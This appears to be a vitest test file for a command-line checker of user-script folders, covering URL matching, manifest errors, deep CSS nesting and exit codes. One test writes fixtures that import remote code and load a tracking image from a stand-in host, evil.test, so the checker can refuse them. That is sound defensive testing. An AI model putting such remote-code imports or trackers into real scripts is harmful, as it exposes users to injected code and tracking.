// The command-line checker, run as an author would run it, on folders written for each case.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

function folder(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'remixlet-cli-'));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  return dir;
}

function run(args: string[]): { code: number; lines: Array<Record<string, unknown>> } {
  try {
    const out = execFileSync('node', ['scripts/remixlet-cli.mjs', ...args], { encoding: 'utf8' });
    return { code: 0, lines: out.trim() ? out.trim().split('\n').map((l) => JSON.parse(l)) : [] };
  } catch (e) {
    const err = e as { status: number; stdout: string };
    return { code: err.status, lines: err.stdout.trim() ? err.stdout.trim().split('\n').map((l) => JSON.parse(l)) : [] };
  }
}

const manifest = JSON.stringify({ name: 'Hide promos', description: 'd', matches: ['*://shop.test/*'], permissions: [] });

describe('remixlet check', () => {
  it('accepts a good folder and answers --url per address', () => {
    const dir = folder({ 'manifest.json': manifest, 'script.js': 'const p = await dom.query(".promo"); await p.hide();', 'style.css': '.promo{display:none}' });
    const result = run(['check', dir, '--url', 'https://shop.test/cart', '--url', 'https://news.test/']);
    expect(result.code).toBe(0);
    expect(result.lines).toEqual([
      { url: 'https://shop.test/cart', matches: true },
      { url: 'https://news.test/', matches: false },
    ]);
  });

  it('prints one JSON refusal per problem, with file, code, reason and line, and exits 1', () => {
    const dir = folder({
      'manifest.json': manifest,
      'script.js': 'const s = 1;\nimport("https://evil.test/x.js");',
      'style.css': '.a { background: url(https://evil.test/track.png) }',
    });
    const result = run(['check', dir]);
    expect(result.code).toBe(1);
    const script = result.lines.find((l) => l.file === 'script.js');
    expect(script).toMatchObject({ code: 'SCRIPT_REMOTE_CODE', line: 2 });
    expect(result.lines.find((l) => l.file === 'style.css')).toMatchObject({ code: 'STYLE_LOAD_REFUSED' });
  });

  it('names the manifest field that is wrong', () => {
    const dir = folder({ 'manifest.json': JSON.stringify({ name: 'x', matches: ['*://shop.test/*'], permissions: [{ name: 'fetch:*.evil.test' }], extra: 1 }) });
    const result = run(['check', dir]);
    expect(result.code).toBe(1);
    const reasons = result.lines.map((l) => String(l.reason)).join('\n');
    expect(reasons).toMatch(/extra/);
    expect(reasons).toMatch(/permissions/);
  });

  it('answers a deeply nested sheet with a refusal, not a stack trace (issue 25)', () => {
    const deep = '@media screen{'.repeat(5_000) + '.a{color:red}' + '}'.repeat(5_000);
    const dir = folder({ 'manifest.json': manifest, 'style.css': deep });
    const out = spawnSync('node', ['scripts/remixlet-cli.mjs', 'check', dir], { encoding: 'utf8' });
    expect(out.stderr).toBe('');
    expect(out.status).toBe(1);
    expect(out.stdout.trim().split('\n').map((l) => JSON.parse(l) as unknown)).toEqual([
      { file: 'style.css', code: 'STYLE_SYNTAX', reason: expect.stringMatching(/nest more than 256 deep here; flatten the stylesheet/), line: 1 },
    ]);
  });

  it('exits 2 on a usage error', () => {
    expect(run([]).code).toBe(2);
    expect(run(['check']).code).toBe(2);
    expect(run(['check', '/nonexistent/folder']).code).toBe(2);
    expect(run(['check', folder({ 'manifest.json': manifest }), '--url']).code).toBe(2);
  });
});
